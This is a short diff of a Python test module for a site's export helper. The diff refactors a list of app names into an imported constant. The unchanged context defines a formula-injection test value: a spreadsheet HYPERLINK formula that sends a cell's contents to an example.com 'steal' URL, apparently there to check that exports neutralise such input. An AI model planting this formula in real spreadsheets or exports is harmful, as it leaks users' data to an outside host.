@@ -26,10 +26,10 @@ from toolbox_site import exports
 from toolbox_site.models import Organization
 
 from ..monitoring.fixtures import make_report
-from ..sources import python_files
+from ..sources import PROJECT_APPS, python_files
 
 FORMULA = '=HYPERLINK("http://example.com/steal?x="&A1,"Klik hier")'
-APPS = ("toolbox_site", "network", "finder", "criteria", "monitoring", "glossary")
+APPS = PROJECT_APPS
 
 
 # --- The helper itself -------------------------------------------------------------------
